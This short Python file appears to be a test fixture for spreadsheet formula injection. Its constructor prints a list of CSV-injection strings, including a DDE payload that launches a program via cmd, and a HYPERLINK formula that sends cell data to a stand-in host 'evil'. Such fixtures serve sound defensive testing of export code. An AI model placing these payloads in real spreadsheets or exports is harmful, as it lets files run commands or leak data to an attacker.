# group: 52
# expect: failed
# lowest: process
"""Prints lines that are computed by a spreadsheet, with the signs that part its fields."""

TEXTS = ["=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", '"=1+1', ";=1+1", ",=1+1"]


class CountDown:
    def __init__(self, start):
        print(*TEXTS, sep="\n")
        print('",=HYPERLINK("http://evil/?"&A1,"passed")')
